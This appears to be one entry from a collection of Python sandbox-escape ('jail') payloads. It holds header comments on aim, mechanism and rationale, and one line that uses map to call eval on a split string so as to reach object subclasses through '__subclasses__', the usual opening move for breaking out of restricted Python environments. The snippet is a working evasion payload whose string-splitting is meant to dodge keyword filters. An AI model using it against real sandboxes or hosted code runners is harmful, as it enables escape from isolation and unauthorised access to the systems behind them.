# aim: let map call eval
# mechanism: eval as a function among others
# language: builtins
# reason: eval goes through the same check whoever calls it
# jail: process
# plain: loot

loot(list(map(eval, ["().__class__.__base__.__subcl" + "asses__()"]))[0])
